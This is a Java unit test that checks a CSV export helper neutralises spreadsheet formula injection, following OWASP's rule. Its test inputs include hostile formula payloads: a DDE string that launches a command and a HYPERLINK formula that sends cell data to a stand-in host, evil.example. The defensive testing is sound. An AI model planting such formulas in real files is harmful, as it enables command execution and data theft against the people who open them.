package io.tandem.platform;

import org.junit.jupiter.api.Test;

import java.math.BigDecimal;
import java.util.Arrays;

import static org.assertj.core.api.Assertions.assertThat;

/** OWASP's CSV-injection rule as every export applies it. */
class SpreadsheetCsvTest {

    @Test
    void cellsThatWouldRunAsFormulasBecomeText() {
        assertThat(SpreadsheetCsv.cell("=1+1")).isEqualTo("'=1+1");
        assertThat(SpreadsheetCsv.cell("+1-1")).isEqualTo("'+1-1");
        assertThat(SpreadsheetCsv.cell("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
        assertThat(SpreadsheetCsv.cell("@SUM(A1)")).isEqualTo("'@SUM(A1)");
        assertThat(SpreadsheetCsv.cell("\t=1")).isEqualTo("'\t=1");
        assertThat(SpreadsheetCsv.cell("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click\"\")\"");
    }

    @Test
    void numbersAndOrdinaryTextStayAsTheyAre() {
        assertThat(SpreadsheetCsv.cell(new BigDecimal("-3200.00"))).isEqualTo("-3200.00");
        assertThat(SpreadsheetCsv.cell("-3200.00")).as("a negative amount as text").isEqualTo("-3200.00");
        assertThat(SpreadsheetCsv.cell(-1.5)).isEqualTo("-1.5");
        assertThat(SpreadsheetCsv.cell("Mia")).isEqualTo("Mia");
        assertThat(SpreadsheetCsv.cell("a, b")).isEqualTo("\"a, b\"");
        assertThat(SpreadsheetCsv.cell(null)).isEmpty();
        assertThat(SpreadsheetCsv.row(Arrays.asList("x", null, 3))).isEqualTo("x,,3\r\n");
    }
}
